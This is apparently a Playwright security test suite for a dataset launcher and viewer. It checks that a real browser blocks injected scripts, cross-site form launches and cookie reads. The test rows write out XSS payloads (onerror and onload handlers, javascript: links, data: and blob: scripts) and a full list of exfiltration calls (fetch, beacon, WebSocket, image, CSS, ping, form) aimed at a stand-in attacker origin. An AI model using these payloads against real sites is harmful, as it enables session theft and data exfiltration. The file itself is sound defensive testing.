/** A script that got into a viewer's page, and pages of other sites: what a real browser lets them do. */
import type { Page } from 'playwright-core'
import { issueRouteCookie } from '../../functions/auth/tickets.ts'
import type { Stage } from './browser.ts'
import { allowed, type Row } from './row.ts'
import type { World } from './world.ts'

type Staged = {
  name: string
  does: string
  attack(world: World, stage: Stage): Promise<string>
  twin(world: World, stage: Stage): Promise<void>
}

let people = 0
async function somebody(world: World, groups: string[] = []) {
  const name = `browser-${++people}`
  await world.addUser(name, groups)
  return world.signIn(name)
}

/** Nothing is heard of for a while; a beacon has no end to wait for. */
const settle = (page: Page) => page.waitForTimeout(1_000)

const status = (page: Page) => page.evaluate(() => fetch('/v/pbmc/-/status').then((answer) => answer.status))
const assert = (holds: boolean, what: string) => {
  if (!holds) throw new Error(what)
}

/** The form that these rows send, from the launcher's own page. */
async function launchRightly(world: World): Promise<void> {
  const { login } = await somebody(world, ['lab'])
  const type = { 'content-type': 'application/x-www-form-urlencoded', cookie: `cxod-login=${login}` }
  allowed(
    await world.app('/datasets/liver/launch', { method: 'POST', headers: { ...type, origin: world.bed.appUrl } }),
    303,
  )
}

const inPage: Staged[] = [
  {
    name: 'a script in the page reads from the launcher',
    does: 'fetch with credentials, XMLHttpRequest, a frame, a window whose document it reads',
    async attack(world, stage) {
      const { page, context, blocked } = await stage.viewerPage(await somebody(world))
      const got = await page.evaluate(async (app) => {
        const tries = {
          fetch: fetch(`${app}/api/me`, { credentials: 'include' }).then((answer) => answer.text()),
          opaque: fetch(`${app}/api/me`, { credentials: 'include', mode: 'no-cors' }).then((answer) => answer.type),
          xhr: new Promise((resolve, reject) => {
            const request = new XMLHttpRequest()
            request.withCredentials = true
            request.onload = () => resolve(request.responseText)
            request.onerror = () => reject(new Error('no'))
            request.open('GET', `${app}/api/me`)
            request.send()
          }),
          frame: new Promise((resolve, reject) => {
            const frame = document.createElement('iframe')
            frame.src = `${app}/`
            document.addEventListener('securitypolicyviolation', () => reject(new Error('no')), { once: true })
            frame.onload = () => resolve(frame.contentDocument?.body.textContent ?? 'loaded')
            document.body.append(frame)
          }),
          window: new Promise((resolve, reject) => {
            const other = window.open(`${app}/`)
            setTimeout(() => {
              try {
                resolve(other?.document.body.textContent || Promise.reject(new Error('no')))
              } catch (error) {
                reject(error)
              }
            }, 2_000)
          }),
        }
        const ends = await Promise.allSettled(Object.values(tries))
        return Object.keys(tries).filter((_, at) => ends[at]?.status === 'fulfilled')
      }, world.bed.appUrl)
      await context.close()
      assert(got.length === 0, `went through: ${got.join(', ')}`)
      return `blocked: ${[...new Set(blocked)].join(', ')}`
    },
    async twin(world, stage) {
      const person = await somebody(world)
      const { page, context } = await stage.viewerPage(person)
      assert((await status(page)) === 200, 'the page itself can’t ask its lobby')
      // The same cookie, from a page of the launcher.
      await page.goto(`${world.bed.appUrl}/`)
      assert(
        (await page.evaluate(() => fetch('/api/me').then((answer) => answer.status))) === 200,
        'not signed in at all',
      )
      await context.close()
    },
  },
  {
    name: 'a script in the page acts in the launcher',
    does: 'sends a form, into a new window and by fetch, that launches another dataset as the person',
    async attack(world, stage) {
      const person = await somebody(world, ['lab'])
      const { page, context, blocked } = await stage.viewerPage(person)
      await page.evaluate((app) => {
        for (const target of ['_self', '_blank']) {
          const form = Object.assign(document.createElement('form'), {
            method: 'post',
            action: `${app}/datasets/liver/launch`,
            target,
          })
          document.body.append(form)
          form.submit()
        }
        const init = { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"datasetId":"liver"}' } as const
        void fetch(`${app}/api/sessions`, init).catch(() => {})
        navigator.sendBeacon(`${app}/api/sessions`, '{"datasetId":"liver"}')
      }, world.bed.appUrl)
      await settle(page)
      const launched = await world.bed.launcher.findSession(person.who, 'liver')
      assert(launched === null, 'a viewer was launched')
      assert(page.url() === `${world.bed.viewUrl}/v/pbmc/`, `the page went to ${page.url()}`)
      await context.close()
      return `blocked: ${[...new Set(blocked)].join(', ')}`
    },
    async twin(world, stage) {
      const person = await somebody(world, ['lab'])
      const { page, context } = await stage.viewerPage(person)
      await page.goto(`${world.bed.appUrl}/datasets/liver`)
      await page.click('button:has-text("Open")')
      await world.bed.untilReady(person.who, 'liver')
      await context.close()
    },
  },
  {
    name: 'the same where the page has no policy at all',
    does: 'as if cellxgene’s page had none: hosts and origin checks alone must hold',
    async attack(world, stage) {
      const person = await somebody(world, ['lab'])
      const { page, context } = await stage.viewerPage(person, { bypassCSP: true })
      const read = await page.evaluate(async (app) => {
        const init = { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"datasetId":"liver"}' } as const
        await fetch(`${app}/api/sessions`, init).catch(() => {}) // its answer is kept from us, not the request
        return fetch(`${app}/api/me`, { credentials: 'include' }).then(
          (answer) => answer.text(),
          () => 'blocked',
        )
      }, world.bed.appUrl)
      assert(read === 'blocked', `read ${read}`)
      await page.evaluate((app) => {
        const form = Object.assign(document.createElement('form'), {
          method: 'post',
          action: `${app}/datasets/liver/launch`,
        })
        document.body.append(form)
        form.submit()
      }, world.bed.appUrl)
      await page.waitForURL(/localhost/)
      assert((await world.bed.launcher.findSession(person.who, 'liver')) === null, 'a viewer was launched')
      const words = await page.textContent('main')
      await context.close()
      return `read blocked; the form: ${words?.includes('Not allowed') ? '403' : 'sign-in'}`
    },
    twin: launchRightly,
  },
  {
    name: 'a script in the page reads another’s session, or its own cookies',
    does: 'calls bob’s route and page with every header, and reads `document.cookie`',
    async attack(world, stage) {
      const { page, context } = await stage.viewerPage(await somebody(world))
      const { bob } = world.sessions
      const got = await page.evaluate(
        async ({ path, owner }) => {
          const headers = { 'x-cxod-owner': owner, 'x-cxod-dataset-version': 'version-of-pbmc', 'x-cxod-base': '1' }
          const read = await fetch(`${path}api/v0.2/annotations/obs`, { headers })
          const write = await fetch(`${path}api/v0.2/annotations/obs`, { method: 'PUT', headers, body: 'x' })
          return { statuses: [read.status, write.status], cookies: document.cookie }
        },
        { path: bob.routePath, owner: bob.ownerId },
      )
      await context.close()
      assert(got.cookies === '', 'a cookie can be read')
      assert(
        got.statuses.every((code) => code === 401),
        `answered ${got.statuses}`,
      )
      return `${got.statuses.join(', ')}; no cookie to be read`
    },
    async twin({ bed, view, sessions: { bob } }) {
      allowed(await view(`${bob.routePath}api/v0.2/annotations/obs`, { headers: await bed.pageCall(bob) }))
    },
  },
  {
    name: 'names from a file that are script',
    does: 'inline scripts, event handlers, `javascript:`, `data:` and `blob:` scripts, an answer of the gate as script, a worker, another base',
    async attack(world, stage) {
      const { page, context, blocked } = await stage.viewerPage(await somebody(world))
      const session = await world.bed.launcher.findSession(world.ada.who, 'pbmc')
      await page.evaluate(async (route) => {
        const ran = 'window.ranForeign = true'
        document.body.insertAdjacentHTML(
          'beforeend',
          `<img src="x:" onerror="${ran}"><svg onload="${ran}"></svg><a id="evil" href="javascript:${ran}">x</a>`,
        )
        document.getElementById('evil')?.click()
        const blob = URL.createObjectURL(new Blob([ran], { type: 'text/javascript' }))
        for (const src of [`data:text/javascript,${ran}`, blob, `${route}api/v0.2/config`, '/v/pbmc/-/status', ''])
          document.body.append(
            Object.assign(document.createElement('script'), src === '' ? { textContent: ran } : { src }),
          )
        document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))
        try {
          new Worker(blob)
        } catch {}
        await navigator.serviceWorker?.register('/v/pbmc/-/status').catch(() => {})
      }, session?.routePath ?? '')
      await settle(page)
      assert((await page.evaluate(() => 'ranForeign' in window)) === false, 'foreign script ran')
      assert((await page.evaluate(() => document.baseURI)) === `${world.bed.viewUrl}/v/pbmc/`, 'the base was moved')
      await context.close()
      return `blocked: ${[...new Set(blocked)].join(', ')}`
    },
    async twin(world, stage) {
      const { page, context } = await stage.viewerPage(await somebody(world))
      // With the page's own nonce it runs: the row above is refused for want of it.
      const ran = await page.evaluate(() => {
        const nonce = document.querySelector('script[nonce]')
        const script = document.createElement('script')
        script.nonce = nonce instanceof HTMLElement ? (nonce.nonce ?? '') : ''
        script.textContent = 'window.ranOwn = true'
        document.body.append(script)
        return 'ranOwn' in window
      })
      assert(ran, 'not even a script with the nonce runs')
      await context.close()
    },
  },
  {
    name: 'a script in the page sends what it reads elsewhere',
    does: 'every request that a page can make by itself: fetch, beacon, image, style, font, socket, prefetch, ping, media, form …',
    async attack(world, stage) {
      const { page, context, blocked } = await stage.viewerPage(await somebody(world))
      stage.attacker.heard()
      await page.evaluate(async (evil) => {
        const add = (tag: string, fields: object) =>
          document.body.append(Object.assign(document.createElement(tag), fields))
        const quiet = (make: () => unknown) => {
          try {
            const made = make()
            if (made instanceof Promise) made.catch(() => {})
          } catch {}
        }
        quiet(() => fetch(`${evil}/fetch`, { mode: 'no-cors', method: 'POST', body: 'x' }))
        quiet(() => navigator.sendBeacon(`${evil}/beacon`, 'x'))
        quiet(() => new WebSocket(`${evil.replace('http', 'ws')}/socket`))
        quiet(() => new EventSource(`${evil}/events`))
        quiet(() => import(`${evil}/module.js`))
        quiet(() => new Image().setAttribute('src', `${evil}/image`))
        quiet(() => new FontFace('x', `url(${evil}/font)`).load())
        quiet(() => new Worker(`${evil}/worker`))
        add('img', { src: `${evil}/img`, srcset: `${evil}/srcset 2x` })
        for (const rel of ['prefetch', 'preload', 'stylesheet', 'icon', 'manifest', 'modulepreload', 'prerender'])
          add('link', { rel, href: `${evil}/${rel}`, as: 'image' })
        add('style', { textContent: `@import url(${evil}/import); body { background: url(${evil}/css) }` })
        add('iframe', { src: `${evil}/frame` })
        add('object', { data: `${evil}/object` })
        add('embed', { src: `${evil}/embed` })
        add('video', { src: `${evil}/video`, poster: `${evil}/poster` })
        add('audio', { src: `${evil}/audio` })
        add('script', { src: `${evil}/script` })
        add('a', { id: 'ping', href: '#', ping: `${evil}/ping` })
        document.getElementById('ping')?.click()
        const form = Object.assign(document.createElement('form'), { action: `${evil}/form`, method: 'post' })
        document.body.append(form)
        form.submit()
      }, stage.attacker.origin)
      await settle(page)
      const heard = stage.attacker.heard()
      await context.close()
      assert(heard.length === 0, `got out: ${heard.join(', ')}`)
      return `heard of nothing; blocked: ${[...new Set(blocked)].join(', ')}`
    },
    async twin(_world, stage) {
      const page = await stage.browser.newPage()
      stage.attacker.serve('<img src="/picture">')
      await page.goto(`${stage.attacker.origin}/`)
      await settle(page)
      await page.close()
      const heard = stage.attacker.heard()
      assert(heard.includes('GET /picture'), 'the attacker’s host hears of nothing at all')
    },
  },
]

const otherPages: Staged[] = [
  {
    name: 'a page next door sends forms to the launcher',
    does: 'same host, another port: the browser sends the cookies along; a form, a fetch, a frame around the launcher',
    async attack(world, stage) {
      const person = await somebody(world, ['lab'])
      const { context } = await stage.viewerPage(person)
      const page = await context.newPage()
      const { appUrl, viewUrl } = world.bed
      stage.attacker.serve(`<iframe src="${appUrl}/"></iframe><iframe src="${viewUrl}/v/pbmc/"></iframe>
        <form method="post" action="${appUrl}/datasets/liver/launch"><button>x</button></form>`)
      await page.goto(`${stage.attacker.nextDoor}/`)
      const read = await page.evaluate(async (app) => {
        const init = { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"datasetId":"liver"}' } as const
        await fetch(`${app}/api/sessions`, init).catch(() => {}) // its answer is kept from us, not the request
        return fetch(`${app}/api/me`, { credentials: 'include' }).then(
          (answer) => answer.text(),
          () => 'blocked',
        )
      }, appUrl)
      assert(read === 'blocked', `read ${read}`)
      await settle(page)
      const framed = page
        .frames()
        .filter((frame) => frame !== page.mainFrame())
        .map((frame) => frame.url())
      assert(
        framed.every((url) => url.startsWith('chrome-error:')),
        `framed: ${framed}`,
      )
      await page.click('button')
      await page.waitForURL(`${appUrl}/datasets/liver/launch`)
      const words = (await page.textContent('main')) ?? ''
      assert(words.includes('launcher’s own pages'), `said: ${words}`)
      assert((await world.bed.launcher.findSession(person.who, 'liver')) === null, 'a viewer was launched')
      await context.close()
      return '403, no read, no frame'
    },
    twin: launchRightly,
  },
  {
    name: 'a page open after sign-out saves',
    does: 'labels are made in a page whose login has ended and whose route cookie is over: refused, kept in the page, and saved once signed in again',
    async attack(world, stage) {
      const person = await somebody(world)
      const { page, context } = await stage.viewerPage(person)
      await page.waitForFunction(() => document.cookie === '')
      const session = await world.bed.untilReady(person.who, 'pbmc')
      await world.app('/sign-out', {
        method: 'POST',
        headers: {
          origin: world.bed.appUrl,
          cookie: `cxod-login=${person.login}`,
          'content-type': 'application/x-www-form-urlencoded',
        },
      })
      const claim = { ownerId: person.who.id, sessionId: session.id, datasetId: 'pbmc' }
      const value = await issueRouteCookie(claim, { keys: world.keys, clock: { now: () => Date.now() - 700_000 } })
      await context.addCookies([
        { name: 'cxod-route', value, domain: '127.0.0.1', path: session.routePath, httpOnly: true, sameSite: 'Lax' },
      ])
      await page.evaluate(async () => {
        const body = await new Response(
          new Blob(['made while signed out']).stream().pipeThrough(new CompressionStream('deflate')),
        ).arrayBuffer()
        const save = fetch('/v/pbmc/api/v0.2/annotations/obs', { method: 'PUT', body })
        Object.assign(window, { saved: 'waits' })
        void save.then((answer) => Object.assign(window, { saved: answer.status }))
      })
      // In the bar, or on the cover of a page that has not drawn yet: the stand-in has no cells to draw.
      const shown = () =>
        ['cxod-bar', 'cxod-wait']
          .map((id) => document.getElementById(id)?.textContent ?? '')
          .find((text) => /signed out/i.test(text))
      await page.waitForFunction(shown, undefined, { timeout: 60_000 })
      const said = (await page.evaluate(shown))?.trim()
      assert((await page.evaluate(() => Reflect.get(window, 'saved'))) === 'waits', 'it was answered')
      assert((await world.bed.launcher.history(person.who, 'pbmc', 'labels')).length === 0, 'it was saved')
      // Signed in again, in the same browser: the page goes on by itself and nothing is lost.
      const again = await world.signIn(person.who.name)
      await context.addCookies([
        { name: 'cxod-login', value: again.login, url: world.bed.appUrl, httpOnly: true, sameSite: 'Lax' },
      ])
      const tab = await context.newPage()
      await tab.goto(`${world.bed.viewUrl}/v/pbmc/-/sign-in`)
      await page.bringToFront()
      await page.waitForFunction(() => Reflect.get(window, 'saved') === 200, undefined, { timeout: 60_000 })
      const kept = await world.bed.launcher.readVersion(person.who, 'pbmc', 'labels', '1')
      assert(Buffer.from(kept).toString() === 'made while signed out', 'something else was saved')
      await context.close()
      return `kept in the page (“${said?.match(/You are signed out/i)?.[0]}”), saved after signing in again`
    },
    async twin() {},
  },
]

/** The rows need a browser, which is started with the first of them. */
export const browserRows = (stage: () => Promise<Stage>): readonly Row[] =>
  [...inPage, ...otherPages].map(({ attack, twin, ...row }) => ({
    ...row,
    attack: async (world) => attack(world, await stage()),
    twin: async (world) => twin(world, await stage()),
  }))
